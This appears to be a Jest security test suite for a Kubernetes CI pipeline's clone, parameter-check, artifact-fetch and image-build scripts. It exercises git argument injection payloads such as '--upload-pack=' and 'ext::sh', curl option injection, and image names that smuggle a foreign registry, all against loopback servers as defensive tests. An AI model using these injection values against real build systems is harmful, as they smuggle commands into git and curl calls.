import { createHash } from 'crypto';
import { spawnSync } from 'child_process';
import * as net from 'net';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { Chart } from 'cdk8s';
import { ArgoCdBootstrap, BuildCache, Environment, IN_CLUSTER, JavaApp, Manifest, PipelineTemplate, PlatformApp } from '../lib';
import { LoopbackServer, Run, runAsync, selfSignedCertificate, startServer } from './support/loopback';

/**
 * The attacks on the pipeline's build side, run for real against the scripts of lib/pipeline/scripts/ with
 * real git and curl, on loopback servers (127.0.0.1) only; then the synthesized WorkflowTemplates.
 * Each attack must fail safely: nothing sent, nothing run, nothing pushed, no secret printed.
 */

const PIPELINE_DIR = path.join(__dirname, '..', 'lib', 'pipeline', 'scripts');
const script = (name: string) => path.join(PIPELINE_DIR, name);
const TOKEN = 'source-read-token-0123456789';
const DIGEST = `sha256:${'ab12'.repeat(16)}`;

// Real git, npm and shells on a shared machine: no wall-clock limit.
jest.setTimeout(30 * 60 * 1000);

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'pipeline-attacks-'));
let cert: { key: string; cert: string; certFile: string };
const servers: LoopbackServer[] = [];
beforeAll(() => {
  cert = selfSignedCertificate(root);
});
afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
  fs.rmSync(root, { recursive: true, force: true });
});

let counter = 0;
function dir(name: string): string {
  const d = path.join(root, `${name}-${++counter}`);
  fs.mkdirSync(d, { recursive: true });
  return d;
}

async function server(options: Parameters<typeof startServer>[0]): Promise<LoopbackServer> {
  const s = await startServer(options);
  servers.push(s);
  return s;
}

/** Isolated from the user's Git configuration; trusts the test certificate; nothing else inherited. */
function env(extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const home = dir('home');
  return {
    PATH: process.env.PATH,
    HOME: home,
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_CONFIG_GLOBAL: path.join(home, '.gitconfig'),
    GIT_SSL_CAINFO: cert.certFile,
    CURL_CA_BUNDLE: cert.certFile,
    GIT_AUTHOR_NAME: 'Test', GIT_AUTHOR_EMAIL: 'test@example.test', GIT_COMMITTER_NAME: 'Test', GIT_COMMITTER_EMAIL: 'test@example.test',
    ...extra,
  };
}

function git(args: string[], cwd?: string): string {
  const r = spawnSync('git', args, { cwd, env: env(), encoding: 'utf8' });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

/** A folder of bare repositories holding `app.git` with one commit on main. */
function sourceRepos(): { root: string; head: string } {
  const repos = dir('repos');
  const work = dir('work');
  git(['init', '--quiet', '--initial-branch=main', work]);
  fs.writeFileSync(path.join(work, 'pom.xml'), '<project/>\n');
  git(['add', '.'], work);
  git(['commit', '--quiet', '-m', 'app'], work);
  git(['clone', '--quiet', '--bare', work, path.join(repos, 'app.git')]);
  return { root: repos, head: git(['rev-parse', 'HEAD'], work).trim() };
}

const basic = (login: string) => `Basic ${Buffer.from(login).toString('base64')}`;

function clone(vars: Record<string, string>): Promise<Run & { dest: string }> {
  const dest = path.join(dir('ws'), 'src');
  return runAsync('sh', [script('clone-source.sh')], env({ SOURCE_DIR: dest, GIT_REVISION: 'main', ...vars }))
    .then((r) => ({ ...r, dest }));
}

// ---------------------------------------------------------------------------------------------

describe('clone-source: the source credentials go to the one host fixed at synth, over https only', () => {
  const creds = { SOURCE_USERNAME: 'reader', SOURCE_PASSWORD: TOKEN };

  test('a host that asks for a login gets no credentials when it is not the fixed host', async () => {
    // GIVEN an https Git server on 127.0.0.1 that asks for a login, and the credentials fixed for github.com
    const repos = sourceRepos();
    const evil = await server({ tls: cert, gitRoot: repos.root, login: `reader:${TOKEN}` });
    // WHEN a workflow names that server as git_repo
    const r = await clone({ GIT_REPO: `${evil.url}/app.git`, SOURCE_REPO_HOST: 'github.com', ...creds });
    // THEN git asked, got nothing from the helper, and failed; the server never saw an Authorization header
    expect(r.status).toBe(1);
    expect(evil.seen.length).toBeGreaterThan(0);
    expect(evil.seen.filter((s) => s.authorization !== undefined)).toEqual([]);
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
  });

  test('the fixed host gets them, and the clone works (the same server, so the test above can fail)', async () => {
    const repos = sourceRepos();
    const good = await server({ tls: cert, gitRoot: repos.root, login: `reader:${TOKEN}` });
    const r = await clone({ GIT_REPO: `${good.url}/app.git`, SOURCE_REPO_HOST: good.host, ...creds });
    expect([r.status, r.stderr]).toEqual([0, '']);
    expect(good.seen.map((s) => s.authorization)).toContain(basic(`reader:${TOKEN}`));
    expect(git(['rev-parse', 'HEAD'], r.dest).trim()).toBe(repos.head);
    expect(fs.existsSync(path.join(r.dest, 'pom.xml'))).toBe(true);
    expect(r.stdout).not.toContain(TOKEN);
  });

  test('a public repository needs no credentials, and none are configured without SOURCE_REPO_HOST', async () => {
    const repos = sourceRepos();
    const open = await server({ tls: cert, gitRoot: repos.root });
    const r = await clone({ GIT_REPO: `${open.url}/app.git`, ...creds });
    expect([r.status, r.stderr]).toEqual([0, '']);
    expect(open.seen.filter((s) => s.authorization !== undefined)).toEqual([]);
    // The same server behind a login: no host fixed, so nothing is sent and the clone fails.
    const closed = await server({ tls: cert, gitRoot: repos.root, login: `reader:${TOKEN}` });
    const refused = await clone({ GIT_REPO: `${closed.url}/app.git`, ...creds });
    expect(refused.status).toBe(1);
    expect(closed.seen.filter((s) => s.authorization !== undefined)).toEqual([]);
  });

  test('plain http is refused before any request, even for the fixed host', async () => {
    const repos = sourceRepos();
    const plain = await server({ gitRoot: repos.root, login: `reader:${TOKEN}` });
    const r = await clone({ GIT_REPO: `${plain.url}/app.git`, SOURCE_REPO_HOST: plain.host, ...creds });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain('git_repo must be an https:// URL');
    expect(plain.seen).toEqual([]);
  });

  test('a redirect to another host is not followed', async () => {
    // GIVEN the fixed host redirects to another server that asks for a login
    const repos = sourceRepos();
    const target = await server({ tls: cert, gitRoot: repos.root, login: `reader:${TOKEN}` });
    const hop = await server({ tls: cert, redirectTo: target.url });
    const r = await clone({ GIT_REPO: `${hop.url}/app.git`, SOURCE_REPO_HOST: hop.host, ...creds });
    // THEN git stops at the redirect: the other server sees nothing
    expect(r.status).toBe(1);
    expect(hop.seen.length).toBeGreaterThan(0);
    expect(target.seen).toEqual([]);
  });
});

describe('clone-source: a revision or URL is never read as an option of git', () => {
  test('--upload-pack=<command> as git_revision runs nothing', async () => {
    // GIVEN the attack works against a plain `git fetch` (so the marker below can detect it)
    const repos = sourceRepos();
    const marker = path.join(dir('marker'), 'ran');
    const payload = `--upload-pack=touch ${marker}; git-upload-pack`;
    const probe = dir('probe');
    git(['init', '--quiet', probe]);
    spawnSync('git', ['fetch', payload, path.join(repos.root, 'app.git'), 'main'], { cwd: probe, env: env() });
    expect(fs.existsSync(marker)).toBe(true);
    fs.rmSync(marker);
    // WHEN it is the revision of clone-source (also the URL, and both), against a real server
    const s = await server({ tls: cert, gitRoot: repos.root });
    for (const vars of [
      { GIT_REPO: `${s.url}/app.git`, GIT_REVISION: payload },
      { GIT_REPO: payload, GIT_REVISION: 'main' },
      { GIT_REPO: `${s.url}/app.git`, GIT_REVISION: `main\n${payload}` },
    ]) {
      const r = await clone(vars);
      // THEN refused as a usage error, and the command never ran
      expect([JSON.stringify(vars), r.status]).toEqual([JSON.stringify(vars), 2]);
      expect(fs.existsSync(marker)).toBe(false);
    }
    expect(s.seen).toEqual([]);
  });

  test('behind the checks, git itself reads the revision as a revision: the script\'s fetch follows --end-of-options', () => {
    // The script's own command line (so this test follows it)...
    const text = fs.readFileSync(script('clone-source.sh'), 'utf8');
    expect(text).toMatch(/git "\$@" fetch --quiet --depth 1 --end-of-options "\$GIT_REPO" "\$GIT_REVISION"/);
    // ...run by real git with the payload as the revision: git refuses the revision, runs nothing.
    const repos = sourceRepos();
    const marker = path.join(dir('marker'), 'ran');
    const payload = `--upload-pack=touch ${marker}; git-upload-pack`;
    const probe = dir('probe');
    git(['init', '--quiet', probe]);
    const url = `file://${path.join(repos.root, 'app.git')}`;
    const guarded = spawnSync('git', ['fetch', '--quiet', '--depth', '1', '--end-of-options', url, payload], { cwd: probe, env: env(), encoding: 'utf8' });
    expect(guarded.status).not.toBe(0);
    expect(fs.existsSync(marker)).toBe(false);
    // The same without --end-of-options: git takes it as an option after the URL and runs it.
    spawnSync('git', ['fetch', '--quiet', '--depth', '1', url, payload], { cwd: probe, env: env() });
    expect(fs.existsSync(marker)).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------

/** Every parameter of check-parameters, valid, for the app orders. */
const VALID: Record<string, string> = {
  APP_NAME: 'orders', APP_TYPE: 'springboot', BUILD_TOOL: 'maven',
  GIT_REPO: 'https://github.com/acme-shop/orders.git', GIT_REVISION: 'v1.4.3',
  ARTIFACT_URL: '', ARTIFACT_SHA256: '', IMAGE: 'ghcr.io/acme-shop/orders', TAG: '1.4.3', ENVIRONMENT: 'dev', OVERWRITE_TAG: 'false',
  APP_NAMES: 'catalog orders', ALLOWED_IMAGES: 'catalog=ghcr.io/acme-shop/catalog orders=ghcr.io/acme-shop/orders',
};

function checkParameters(vars: Record<string, string>): { r: ReturnType<typeof spawnSync>; build?: string } {
  const out = dir('out');
  const r = spawnSync('sh', [script('check-parameters.sh')], { env: env({ ...VALID, OUT_DIR: out, ...vars }), encoding: 'utf8' });
  const file = path.join(out, 'build');
  return { r, build: fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : undefined };
}

describe('check-parameters: every parameter as a whole string', () => {
  test('valid parameters pass and say which build runs', () => {
    expect(checkParameters({}).build).toBe('maven');
    expect(checkParameters({ ALLOWED_IMAGES: '*=ghcr.io/acme-shop/{app}' }).build).toBe('maven');
    expect(checkParameters({ BUILD_TOOL: 'gradle' }).build).toBe('gradle');
    expect(checkParameters({ GIT_REPO: '', ARTIFACT_URL: 'https://repo.example.com/orders-1.4.3.jar?sig=a%2Fb', ARTIFACT_SHA256: 'a'.repeat(64) }).build).toBe('artifact');
  });

  // A newline, a leading dash or an option smuggled in, for each parameter.
  const attacks: Array<[string, string]> = [
    ['APP_NAME', 'orders\ncatalog'], ['APP_NAME', '-orders'], ['APP_NAME', 'payments'],
    ['APP_TYPE', 'springboot\nspring'], ['BUILD_TOOL', 'maven\n'], ['BUILD_TOOL', '-Dexec=1'],
    ['GIT_REPO', 'https://github.com/acme-shop/orders.git\n--upload-pack=touch /tmp/x'], ['GIT_REPO', '--upload-pack=touch /tmp/x'],
    ['GIT_REPO', 'http://github.com/acme-shop/orders.git'], ['GIT_REPO', 'https://bot:pw@github.com/acme-shop/orders.git'],
    ['GIT_REPO', 'ext::sh -c touch% /tmp/x'], ['GIT_REPO', 'file:///etc'],
    ['GIT_REVISION', '--upload-pack=touch /tmp/x'], ['GIT_REVISION', 'main\n--upload-pack=touch /tmp/x'], ['GIT_REVISION', 'a..b'], ['GIT_REVISION', '+refs/heads/x:refs/heads/y'],
    ['IMAGE', 'ghcr.io/acme-shop/orders,registry.insecure=true,name=evil.example.com/x'], ['IMAGE', 'evil.example.com/acme-shop/orders'],
    ['IMAGE', 'ghcr.io/acme-shop/catalog'], ['IMAGE', 'ghcr.io/acme-shop/orders\nevil'], ['IMAGE', '-ghcr.io/acme-shop/orders'],
    ['TAG', 'latest'], ['TAG', '1.0\n2.0'], ['TAG', '-1'], ['TAG', '1.0,push=false'],
    ['ENVIRONMENT', 'dev\nprod'], ['ENVIRONMENT', '-dev'], ['OVERWRITE_TAG', 'true\n'], ['OVERWRITE_TAG', 'yes'],
  ];
  test.each(attacks)('%s=%j is refused (exit 2), no output written', (name, value) => {
    const { r, build } = checkParameters({ [name]: value });
    expect(r.status).toBe(2);
    expect(String(r.stderr)).toMatch(/^check-parameters: error: /);
    expect(build).toBeUndefined();
  });

  test('artifact_url: https only, a checksum required, never both sources, and no secret in the message', () => {
    const art = { GIT_REPO: '', ARTIFACT_URL: 'https://repo.example.com/a.jar', ARTIFACT_SHA256: 'a'.repeat(64) };
    for (const [vars, message] of [
      [{ ...art, ARTIFACT_SHA256: '' }, 'artifact_sha256 must be the sha256 of the archive'],
      [{ ...art, ARTIFACT_SHA256: 'A'.repeat(64) }, 'artifact_sha256 must be'],
      [{ ...art, ARTIFACT_URL: 'http://repo.example.com/a.jar' }, 'artifact_url must be an https:// URL'],
      [{ ...art, ARTIFACT_URL: 'https://u:hunter2@repo.example.com/a.jar' }, 'artifact_url must be an https:// URL'],
      [{ ...art, GIT_REPO: VALID.GIT_REPO }, 'give either git_repo'],
    ] as const) {
      const { r } = checkParameters(vars);
      expect([vars, r.status]).toEqual([vars, 2]);
      expect(String(r.stderr)).toContain(message);
      expect(String(r.stderr)).not.toContain('hunter2');
    }
  });
});

// ---------------------------------------------------------------------------------------------

/**
 * A fake buildctl over a fake registry (a folder of `<image>:<tag>` files): a lookup (no --output)
 * succeeds when the tag exists, else says "not found"; a build records its call and "pushes".
 */
function fakeBuildctl(registry: string): string {
  const bin = dir('bin');
  fs.writeFileSync(path.join(bin, 'buildctl'), `#!/bin/sh
echo "$*" >> "${registry}/calls"
ctx=""
for a in "$@"; do case "$a" in context=*) ctx="\${a#context=}" ;; esac; done
case "$*" in
  *--output*)
    name="$(printf '%s' "$*" | sed -n 's/.*name=\\([^,]*\\),push=true.*/\\1/p')"
    cp "$ctx/Dockerfile" "${registry}/Dockerfile.used"
    printf '%s' "$name" > "${registry}/$(printf '%s' "$name" | tr '/:' '__')"
    printf '{"containerimage.digest": "${DIGEST}"}' > "$OUT_DIR/metadata.json"
    ;;
  *)
    ref="$(sed -n 's/^FROM //p' "$ctx/Dockerfile")"
    [ -n "\${REGISTRY_DOWN:-}" ] && { echo "failed to authorize: 401 Unauthorized"; exit 1; }
    [ -f "${registry}/$(printf '%s' "$ref" | tr '/:' '__')" ] && exit 0
    echo "failed to resolve source metadata for $ref: $ref: not found"; exit 1
    ;;
esac
`, { mode: 0o755 });
  return path.join(bin, 'buildctl');
}

function buildImage(vars: Record<string, string> = {}): { r: ReturnType<typeof spawnSync>; registry: string; pushed: () => string[]; calls: () => string[] } {
  const registry = dir('registry');
  const artifact = dir('artifact');
  fs.writeFileSync(path.join(artifact, 'app.jar'), 'PK');
  for (const [k, v] of Object.entries(vars)) if (k === 'EXISTING') fs.writeFileSync(path.join(registry, v.replace(/[/:]/g, '_')), v);
  const { EXISTING: _existing, ...rest } = vars;
  const r = spawnSync('sh', [script('build-image.sh')], {
    env: env({
      BUILDCTL: fakeBuildctl(registry), OUT_DIR: dir('out'), ARTIFACT_DIR: artifact,
      APP_NAME: 'orders', IMAGE: 'ghcr.io/acme-shop/orders', TAG: '1.4.3', ALLOWED_IMAGES: VALID.ALLOWED_IMAGES,
      JAR_BASE_IMAGE: `eclipse-temurin:21-jre@${DIGEST}`, WAR_BASE_IMAGE: `tomcat:10.1.34-jdk17-temurin@${DIGEST}`,
      ...rest,
    }),
    encoding: 'utf8',
  });
  const read = (f: string) => (fs.existsSync(path.join(registry, f)) ? fs.readFileSync(path.join(registry, f), 'utf8') : '');
  return {
    r, registry,
    pushed: () => (read('calls').split('\n').filter((l) => l.includes('--output'))),
    calls: () => read('calls').split('\n').filter(Boolean),
  };
}

describe('build-image: only the app\'s own repository, never over an existing tag', () => {
  test('the app\'s repository with a new tag is built and pushed', () => {
    const b = buildImage();
    expect([b.r.status, b.r.stderr]).toEqual([0, '']);
    expect(b.pushed()).toEqual([expect.stringContaining('--output type=image,name=ghcr.io/acme-shop/orders:1.4.3,push=true')]);
  });

  test('with a repository pattern, each app pushes to its own repository only', () => {
    const pattern = { ALLOWED_IMAGES: '*=ghcr.io/acme-shop/{app}' };
    expect(buildImage(pattern).r.status).toBe(0);
    expect(buildImage({ ...pattern, APP_NAME: 'catalog', IMAGE: 'ghcr.io/acme-shop/catalog' }).r.status).toBe(0);
    for (const vars of [{ IMAGE: 'ghcr.io/acme-shop/catalog' }, { IMAGE: 'ghcr.io/acme-shop/orders-x' }, { IMAGE: 'ghcr.io/acme-shop' }, { IMAGE: 'ghcr.io/acme-shop/orders/x' }]) {
      const b = buildImage({ ...pattern, ...vars });
      expect([vars, b.r.status]).toEqual([vars, 2]);
      expect(b.calls()).toEqual([]);
    }
    for (const vars of [{ IMAGE: 'ghcr.io/acme-shop/orders-x' }, { IMAGE: 'ghcr.io/acme-shop/catalog' }]) {
      expect(checkParameters({ ...pattern, ...vars }).r.status).toBe(2);
    }
  });

  test.each([
    ['ghcr.io/acme-shop/orders,registry.insecure=true,name=evil.example.com/x'],
    ['evil.example.com/acme-shop/orders'],
    ['ghcr.io/acme-shop/catalog'],
    ['ghcr.io/acme-shop/orders\nevil.example.com/x'],
    ['-ghcr.io/acme-shop/orders'],
  ])('a foreign image %j is refused before buildctl runs', (image) => {
    const b = buildImage({ IMAGE: image });
    expect(b.r.status).toBe(2);
    expect(b.calls()).toEqual([]);
  });

  test.each([
    [{ APP_NAME: 'orders\ncatalog' }], [{ APP_NAME: 'catalog' }], [{ TAG: '1.4.3\nlatest' }], [{ TAG: '-x' }],
    [{ TAG: '1,push=false' }], [{ OVERWRITE_TAG: 'true\nfalse' }], [{ JAR_BASE_IMAGE: 'eclipse-temurin:21-jre' }],
  ])('%j is refused before buildctl runs', (vars) => {
    const b = buildImage(vars);
    expect(b.r.status).toBe(2);
    expect(b.calls()).toEqual([]);
  });

  test('an existing tag is kept unless overwrite_tag is true', () => {
    const kept = buildImage({ EXISTING: 'ghcr.io/acme-shop/orders:1.4.3' });
    expect(kept.r.status).toBe(2);
    expect(kept.r.stderr).toContain('ghcr.io/acme-shop/orders:1.4.3 already exists in the registry');
    expect(kept.calls().length).toBe(1);
    expect(kept.pushed()).toEqual([]);

    const replaced = buildImage({ EXISTING: 'ghcr.io/acme-shop/orders:1.4.3', OVERWRITE_TAG: 'true' });
    expect([replaced.r.status, replaced.r.stderr]).toEqual([0, '']);
    expect(replaced.pushed().length).toBe(1);
  });

  test('a lookup that fails for another reason pushes nothing', () => {
    const b = buildImage({ REGISTRY_DOWN: '1' });
    expect(b.r.status).toBe(1);
    expect(b.r.stderr).toContain('cannot tell whether ghcr.io/acme-shop/orders:1.4.3 exists');
    expect(b.pushed()).toEqual([]);
  });

  test('the repository\'s Dockerfile: every FROM and the syntax frontend pinned by digest, or an earlier stage', () => {
    const build = (dockerfile: string) => {
      const src = dir('src');
      fs.writeFileSync(path.join(src, 'Dockerfile'), dockerfile);
      return buildImage({ SOURCE_DIR: src });
    };
    const pinned = `eclipse-temurin:21-jre@${DIGEST}`;
    expect(build(`FROM --platform=linux/amd64 maven:3@${DIGEST} AS Build\nRUN true\nFROM ${pinned}\nCOPY --from=build /a /a\nFROM build\n`).r.status).toBe(0);
    expect(build(`# syntax=docker/dockerfile:1.7@${DIGEST}\nFROM ${pinned}\n`).r.status).toBe(0);
    for (const bad of ['FROM eclipse-temurin:21-jre\n', `FROM ${pinned} AS base\nFROM ubuntu\n`, 'ARG BASE\nFROM $BASE\n', 'from alpine:3.20\n',
      `# syntax=evil.example.com/frontend:1\nFROM ${pinned}\n`, `#SYNTAX = docker/dockerfile:1\nFROM ${pinned}\n`]) {
      const b = build(bad);
      expect([bad, b.r.status]).toEqual([bad, 1]);
      expect(b.r.stderr).toMatch(/Dockerfile line \d+: (FROM .* (is not pinned by digest|is chosen by a build argument)|the frontend .* is not pinned by digest)/);
      expect(b.calls().filter((c) => c.includes('--output'))).toEqual([]);
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe('fetch-artifact: checked before use, no secret in any message', () => {
  const jar = Buffer.from('PK\u0003\u0004 a jar');
  const sha = createHash('sha256').update(jar).digest('hex');

  async function fetch(url: string, sha256: string): Promise<Run & { dir: string }> {
    const out = dir('artifact');
    const r = await runAsync('sh', [script('fetch-artifact.sh')], env({ ARTIFACT_URL: url, ARTIFACT_SHA256: sha256, ARTIFACT_DIR: out }));
    return { ...r, dir: out };
  }

  test('the archive with the expected sha256 is used', async () => {
    const s = await server({ tls: cert, files: { '/orders.jar': jar } });
    const r = await fetch(`${s.url}/orders.jar?X-Sig=s3cr3t`, sha);
    expect([r.status, r.stderr]).toEqual([0, '']);
    expect(fs.readFileSync(path.join(r.dir, 'app.jar'))).toEqual(jar);
    expect(r.stdout).not.toContain('s3cr3t');
  });

  test('another archive is refused and left nowhere', async () => {
    const s = await server({ tls: cert, files: { '/orders.jar': jar } });
    const r = await fetch(`${s.url}/orders.jar`, 'b'.repeat(64));
    expect(r.status).toBe(2);
    expect(r.stderr).toContain(`has the sha256 ${sha}, not the expected ${'b'.repeat(64)}: it was not used`);
    expect(fs.readdirSync(r.dir)).toEqual([]);
  });

  test('a failed download prints neither the signed query nor credentials', async () => {
    const s = await server({ tls: cert, files: {} });
    const r = await fetch(`${s.url}/missing.jar?X-Amz-Signature=s3cr3t&token=hunter2`, sha);
    expect(r.status).toBe(1);
    expect(r.stderr).toContain(`cannot download ${s.url}/missing.jar?***`);
    expect(r.stdout + r.stderr).not.toMatch(/s3cr3t|hunter2/);
    // Credentials in the URL: refused, not echoed.
    const creds = await fetch(`https://bot:hunter2@${s.host}/orders.jar`, sha);
    expect(creds.status).toBe(2);
    expect(creds.stdout + creds.stderr).not.toContain('hunter2');
    expect(s.seen.filter((x) => x.url.includes('orders.jar'))).toEqual([]);
  });

  test('plain http, a newline or a leading dash is refused before any request', async () => {
    const s = await server({ files: { '/orders.jar': jar } });
    for (const url of [`${s.url}/orders.jar`, `https://${s.host}/orders.jar\n-o/etc/x`, `-Kfile https://${s.host}/orders.jar`]) {
      const r = await fetch(url, sha);
      expect([url, r.status]).toEqual([url, 2]);
    }
    expect(s.seen).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------

/** The platform of main.ts in small: two environments, two apps each, then the pipeline. */
function platform(props: Partial<ConstructorParameters<typeof PipelineTemplate>[2]> = {}, images: Record<string, string> = {}): PlatformApp {
  const app = new PlatformApp({ outdir: dir('dist') });
  for (const name of ['dev', 'prod']) {
    const e = new Environment(app, name, { namespace: `shop-${name}` });
    new JavaApp(e, 'orders', { image: images.orders ?? 'ghcr.io/acme-shop/orders:1.4.2' });
    new JavaApp(e, 'catalog', { image: 'ghcr.io/acme-shop/catalog:2.3.1' });
  }
  new PipelineTemplate(new Chart(app, 'ci'), 'pipeline', {
    gitopsRepo: 'https://github.com/acme-shop/platform-gitops.git', imageRepository: 'ghcr.io/acme-shop/{app}', sourceRepoHost: 'github.com', ...props,
  });
  return app;
}

function podTemplates(manifests: Manifest[], name: string): any[] {
  const doc = manifests.find((m) => m.doc.kind === 'WorkflowTemplate' && m.doc.metadata.name === name)!.doc;
  return doc.spec.templates.filter((t: any) => t.script || t.container);
}

describe('the synthesized build: no GitOps credentials and no Kubernetes token where repository code runs', () => {
  const manifests = platform().manifests();
  const build = podTemplates(manifests, 'serve-java-app');

  test('every build pod mounts no ServiceAccount token; the executor has its own account', () => {
    expect(build.map((t) => t.name).sort()).toEqual(['build-gradle', 'build-image', 'build-maven', 'check-parameters', 'clone-source', 'fetch-artifact']);
    // The WorkflowTemplate turns the token off for every pod; only the executor's containers get
    // the executor's token, and no build step names a ServiceAccount of its own.
    const serve = manifests.find((m) => m.doc.kind === 'WorkflowTemplate' && m.doc.metadata.name === 'serve-java-app')!.doc;
    expect([serve.spec.automountServiceAccountToken, serve.spec.executor]).toEqual([false, { serviceAccountName: 'pipeline-executor' }]);
    for (const t of build) {
      expect([t.name, t.automountServiceAccountToken, t.serviceAccountName, t.executor]).toEqual([t.name, undefined, undefined, undefined]);
    }
  });

  test('no build pod references the GitOps write Secret; only clone-source has the source Secret, only build-image the registry Secret', () => {
    const secrets = (t: any) => {
      const json = JSON.stringify(t);
      return [...json.matchAll(/"(?:name|secretName)":"([a-z-]+-credentials)"/g)].map((m) => m[1]).sort();
    };
    const bySecret = Object.fromEntries(build.map((t) => [t.name, [...new Set(secrets(t))]]));
    expect(bySecret).toEqual({
      'check-parameters': [], 'clone-source': ['source-credentials'], 'build-maven': [], 'build-gradle': [], 'fetch-artifact': [], 'build-image': ['registry-credentials'],
    });
    const clone = build.find((t) => t.name === 'clone-source');
    const e = Object.fromEntries(clone.script.env.map((v: any) => [v.name, v.value ?? v.valueFrom]));
    expect(e.SOURCE_REPO_HOST).toBe('github.com');
    expect(e.SOURCE_PASSWORD).toEqual({ secretKeyRef: { name: 'source-credentials', key: 'password', optional: true } });
    expect(JSON.stringify(podTemplates(manifests, 'serve-java-app'))).not.toContain('gitops-credentials');
  });

  test('the allowed images and apps are fixed at synth; each app has its own build cache', () => {
    const check = build.find((t) => t.name === 'check-parameters');
    const e = Object.fromEntries(check.script.env.map((v: any) => [v.name, v.value]));
    expect(e.APP_NAMES).toBe('catalog orders');
    expect(e.ALLOWED_IMAGES).toBe('*=ghcr.io/acme-shop/{app}');
    const claims = manifests.filter((m) => m.doc.kind === 'PersistentVolumeClaim' && m.doc.metadata.namespace === 'ci').map((m) => m.doc.metadata.name);
    expect(claims).toEqual(['java-build-cache-catalog', 'java-build-cache-orders']);
    for (const app of ['catalog', 'orders']) {
      const claim = manifests.find((m) => m.doc.kind === 'PersistentVolumeClaim' && m.doc.metadata.name === `java-build-cache-${app}`)!.doc;
      expect(claim.spec).toEqual({ accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '5Gi' } } });
    }
    // BuildCache.none(): nothing shared, nothing kept.
    const none = platform({ buildCache: BuildCache.none() }).manifests();
    expect(none.filter((m) => m.doc.kind === 'PersistentVolumeClaim' && m.doc.metadata.namespace === 'ci')).toEqual([]);
  });

  test('without imageRepository, the allowed images are the repositories the apps run', () => {
    const m = platform({ imageRepository: undefined }).manifests();
    const check = podTemplates(m, 'serve-java-app').find((t) => t.name === 'check-parameters');
    expect(check.script.env.find((v: any) => v.name === 'ALLOWED_IMAGES').value).toBe('catalog=ghcr.io/acme-shop/catalog orders=ghcr.io/acme-shop/orders');
    // Without sourceRepoHost, no credentials at all reach clone-source.
    const clone = podTemplates(platform({ sourceRepoHost: undefined }).manifests(), 'serve-java-app').find((t) => t.name === 'clone-source');
    expect(clone.script.env.map((v: any) => v.name)).not.toEqual(expect.arrayContaining(['SOURCE_USERNAME']));
    expect(clone.script.env.map((v: any) => v.name)).not.toContain('SOURCE_REPO_HOST');
  });

  test('an app whose image is not in imageRepository, or an app declared after the pipeline, stops the synth', () => {
    expect(() => platform({}, { orders: 'docker.io/someone/orders:1.0.0' }).manifests())
      .toThrow('imageRepository "ghcr.io/acme-shop/{app}" allows ghcr.io/acme-shop/orders for the app orders, but it runs docker.io/someone/orders: fix the app\'s image or imageRepository');
    const late = platform();
    new JavaApp(new Environment(late, 'qa', { namespace: 'shop-qa' }), 'payments', { image: 'ghcr.io/acme-shop/payments:0.1.0' });
    expect(() => late.manifests()).toThrow('the apps payments were declared after the PipelineTemplate');
  });

  test('the committed pipeline in dist/ci is the same: no token and no GitOps Secret in a build pod', () => {
    const YAML = require('yaml');
    const docs = YAML.parseAllDocuments(fs.readFileSync(path.join(__dirname, '..', 'dist', 'ci', 'pipeline.yaml'), 'utf8')).map((d: any) => d.toJSON());
    const serve = docs.find((d: any) => d.kind === 'WorkflowTemplate' && d.metadata.name === 'serve-java-app');
    expect(serve.spec.automountServiceAccountToken).toBe(false);
    for (const t of serve.spec.templates.filter((x: any) => x.script || x.container)) {
      expect([t.name, t.automountServiceAccountToken, t.serviceAccountName]).toEqual([t.name, undefined, undefined]);
      expect(JSON.stringify(t)).not.toContain('gitops-credentials');
    }
  });
});

// ---------------------------------------------------------------------------------------------

describe('argocd-app: a failure to reach Argo CD is exit 75 for every action and wait, never Argo CD\'s refusal', () => {
  const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwIn0.c2ln';
  const vars = (serverUrl: string, extra: Record<string, string> = {}) => env({
    ARGOCD_SERVER: serverUrl, ARGOCD_AUTH_TOKEN: JWT, ARGOCD_APPLICATION: 'platform-prod', APP_NAME: 'orders', NAMESPACE: 'shop-prod',
    POLL_SECONDS: '0', TIMEOUT_SECONDS: '2', REQUEST_SECONDS: '1', ...extra,
  });

  /** A port that nothing listens on (bound, then closed). */
  async function closedPort(): Promise<string> {
    const s = net.createServer();
    await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
    const port = (s.address() as net.AddressInfo).port;
    await new Promise<void>((resolve) => s.close(() => resolve()));
    return `http://127.0.0.1:${port}`;
  }

  /** A server that accepts connections and never answers: each request times out. */
  async function silentServer(): Promise<{ url: string; close: () => Promise<void> }> {
    const sockets: net.Socket[] = [];
    const s = net.createServer((socket) => { sockets.push(socket); socket.on('error', () => undefined); });
    await new Promise<void>((resolve) => s.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(s.address() as net.AddressInfo).port}`;
    return { url, close: () => new Promise<void>((resolve) => { sockets.forEach((k) => k.destroy()); s.close(() => resolve()); }) };
  }

  const failures: Array<[string, () => Promise<{ url: string; close?: () => Promise<void> }>]> = [
    ['unreachable', async () => ({ url: await closedPort() })],
    // A certificate curl does not trust (no CURL_CA_BUNDLE for it): the TLS handshake fails.
    ['a TLS failure', async () => { const s = await server({ tls: cert, files: {} }); return { url: s.url }; }],
    ['a request timeout', silentServer],
  ];

  for (const [what, start] of failures) {
    test.each(['wait', 'promote', 'abort'])(`${what}: %s exits 75 with Argo CD named as unreachable`, async (command) => {
      const s = await start();
      try {
        const e = vars(s.url);
        delete e.CURL_CA_BUNDLE;
        const r = await runAsync('sh', [script('argocd-app.sh'), command], e);
        expect([command, r.status]).toEqual([command, 75]);
        expect(r.stderr).not.toMatch(/HTTP 0000|refused the/);
        expect(r.stderr).toMatch(command === 'wait' ? /without an answer from Argo CD: Argo CD could not be reached/ : /could not be reached for the (resume|abort) of orders/);
